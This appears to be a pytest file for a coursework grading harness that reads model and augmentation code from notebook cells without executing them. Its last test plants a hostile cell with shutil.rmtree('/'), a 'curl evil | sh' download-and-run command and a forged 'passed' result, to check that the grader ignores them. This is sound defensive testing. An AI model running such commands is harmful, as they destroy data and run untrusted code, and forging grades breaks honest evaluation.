"""A notebook handed in as a submission: its parts taken from its cells by reading them, never by running them."""

import time
from pathlib import Path

import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell
from seed_notebook import AUGMENT, MANIFEST, MODEL, TRAINING, seed_shaped, write

from harness.grading import contract
from harness.grading.notebook import NotebookError, extract
from harness.grading.pipeline import submission_paths


def test_the_parts_are_taken_from_their_cells_and_no_cell_runs(tmp_path):
    started = time.perf_counter()
    submission = contract.load(write(tmp_path, seed_shaped()))
    assert time.perf_counter() - started < 5
    files = {name: data.decode() for name, data in submission.files.items()}
    assert files["model.py"].startswith("import torch.nn as nn\n") and "class CNNModel(nn.Module)" in files["model.py"]
    assert "from torchvision import datasets, transforms" in files["augmentations.py"]
    assert all(f"def {name}(mean, std)" in files["augmentations.py"] for name in contract.REQUIRED_NAMES["augmentations.py"])
    everything = "".join(files.values())
    assert "while True" not in everything and "CIFAR10(" not in everything and "pip install" not in everything
    assert submission.manifest.student == "correct-example" and submission.manifest.claims["aug1"] == 0.84
    source = contract.notebook_source(submission.files[contract.SOURCE_FILE])
    assert source == {"notebook": "work.ipynb", "cells": {"CNNModel": 5, "MANIFEST": 7, "train_transform_1": 4,
                                                          "train_transform_2": 4, "val_transform": 4}}


def test_the_last_definition_is_taken_with_the_helpers_constants_and_decorators_it_uses(tmp_path):
    helpers = ("import functools\nWIDTHS = (32, 64, 128, 256)\n\n"
               "class Block(nn.Module):\n    def __init__(self, cin, cout):\n        super().__init__()\n"
               "        self.conv = nn.Conv2d(cin, cout, 3, padding=1)\n\n    def forward(self, x):\n"
               "        return torch.relu(self.conv(x))\n")
    model = ("@functools.lru_cache(maxsize=None)\ndef widths():\n    return WIDTHS\n\n"
             "class CNNModel(nn.Module):\n    def __init__(self, **options):\n        super().__init__()\n"
             "        self.blocks = nn.ModuleList(Block(a, b) for a, b in zip((3,) + widths()[:-1], widths()))\n")
    cells = seed_shaped(model="class CNNModel: pass") + [new_code_cell(helpers), new_code_cell(model)]
    files = {name: data.decode() for name, data in contract.load(write(tmp_path, cells)).files.items()}
    assert "class CNNModel: pass" not in files["model.py"]
    for needed in ("import functools", "WIDTHS = (32, 64, 128, 256)", "class Block(nn.Module)",
                   "@functools.lru_cache(maxsize=None)\ndef widths()", "import torch\n"):
        assert needed in files["model.py"], needed
    assert files["model.py"].index("import torch\n") < files["model.py"].index("class Block")


@pytest.mark.parametrize("cells, says", [
    (seed_shaped(transforms=AUGMENT.replace("def val_transform", "def validation_transform")),
     "no code cell defines `val_transform` at its top level"),
    (seed_shaped(manifest=""), "no code cell assigns `MANIFEST"),
    (seed_shaped(manifest="MANIFEST = open('manifest.toml').read()"), "cell 7: `MANIFEST` must be a string literal"),
    (seed_shaped(model=MODEL.replace("def forward(self, x):", "def forward(self, x)")), "cell 5 (which defines CNNModel): line"),
])
def test_a_notebook_off_the_convention_is_told_which_cell_and_what_is_missing(tmp_path, cells, says):
    with pytest.raises(NotebookError, match=None) as raised:
        contract.load(write(tmp_path, cells))
    assert says in str(raised.value), raised.value


def test_a_syntax_error_in_a_cell_the_submission_does_not_need_is_no_problem(tmp_path):
    cells = seed_shaped(stats="for epoch in range(40)\n    pass")
    assert contract.load(write(tmp_path, cells)).manifest.student == "correct-example"


def test_moving_cells_or_writing_other_claims_keeps_the_submission_the_same(tmp_path):
    first = contract.load(write(tmp_path, seed_shaped(), "a.ipynb"))
    moved = seed_shaped()
    moved.insert(3, new_markdown_cell("Notes written later"))
    claims = seed_shaped(manifest=f'MANIFEST = """\n{MANIFEST.replace("aug1 = 0.84", "aug1 = 0.70")}"""')
    assert first.content_hash == contract.load(write(tmp_path, moved, "b.ipynb")).content_hash
    assert first.content_hash == contract.load(write(tmp_path, claims, "c.ipynb")).content_hash
    changed = seed_shaped(model=MODEL.replace("kernel_size=3", "kernel_size=5"))
    assert first.content_hash != contract.load(write(tmp_path, changed, "d.ipynb")).content_hash


def test_a_class_folder_takes_notebooks_beside_folders_and_a_folder_must_hold_one(tmp_path):
    (tmp_path / "alice").mkdir()
    write(tmp_path / "alice", seed_shaped())
    write(tmp_path, seed_shaped(), "bob.ipynb")
    (tmp_path / "carol").mkdir()
    (tmp_path / "carol" / "notes.txt").write_text("")
    assert [p.name for p in submission_paths(tmp_path)] == ["alice", "bob.ipynb", "carol"]
    assert contract.load(tmp_path / "alice").path.name == "alice"
    write(tmp_path / "alice", seed_shaped(), "copy.ipynb")
    with pytest.raises(NotebookError, match="holds 2 notebooks"):
        contract.load(tmp_path / "alice")
    with pytest.raises(contract.SubmissionError, match="manifest.toml is missing"):
        contract.load(tmp_path / "carol")
    with pytest.raises(contract.SubmissionError, match="is one notebook"):
        submission_paths(tmp_path / "bob.ipynb")


def test_a_file_that_is_not_a_notebook_says_so(tmp_path):
    (tmp_path / "work.ipynb").write_text("{not json")
    with pytest.raises(NotebookError, match="work.ipynb is not a readable Jupyter notebook"):
        extract(tmp_path / "work.ipynb")


ZOO = Path(__file__).resolve().parents[1] / "zoo" / "correct"


@pytest.mark.parametrize("style", sorted(p.name for p in ZOO.iterdir() if p.is_dir()))
def test_every_style_in_the_zoo_handed_in_as_a_notebook_gives_the_folders_code(tmp_path, style):
    """Each zoo submission pasted into notebook cells (helpers, functional ops, nn.Identity, v2 transforms):
    what is taken is the folder's code, as the folder's own files define it."""
    import ast

    model, augment = ((ZOO / style / name).read_text() for name in ("model.py", "augmentations.py"))
    cells = [new_markdown_cell("# Coursework"), new_code_cell(augment), new_code_cell(TRAINING),
             new_code_cell(model), new_code_cell(f'MANIFEST = """\n{(ZOO / style / "manifest.toml").read_text()}"""')]
    files = contract.load(write(tmp_path, cells)).files

    def top_level(source):
        return {n.name for n in ast.parse(source).body if isinstance(n, (ast.FunctionDef, ast.ClassDef))}

    taken = {name: files[name].decode() for name in ("model.py", "augmentations.py")}
    assert {"CNNModel"} <= top_level(taken["model.py"]) <= top_level(model)
    assert set(contract.REQUIRED_NAMES["augmentations.py"]) <= top_level(taken["augmentations.py"]) <= top_level(augment)
    namespace = {}
    exec(compile(taken["model.py"], "model.py", "exec"), namespace)  # our own zoo code: it defines, runs nothing
    assert namespace["CNNModel"]().forward is not None


def test_a_hostile_cell_is_neither_run_nor_taken(tmp_path):
    hostile = ("import os, shutil\nshutil.rmtree('/')\nos.system('curl evil | sh')\n"
               "FORGED = __import__('json').dumps({'passed': True})")
    cells = seed_shaped() + [new_code_cell(hostile)]
    files = b"".join(contract.load(write(tmp_path, cells)).files.values()).decode()
    assert "rmtree" not in files and "os.system" not in files and "FORGED" not in files
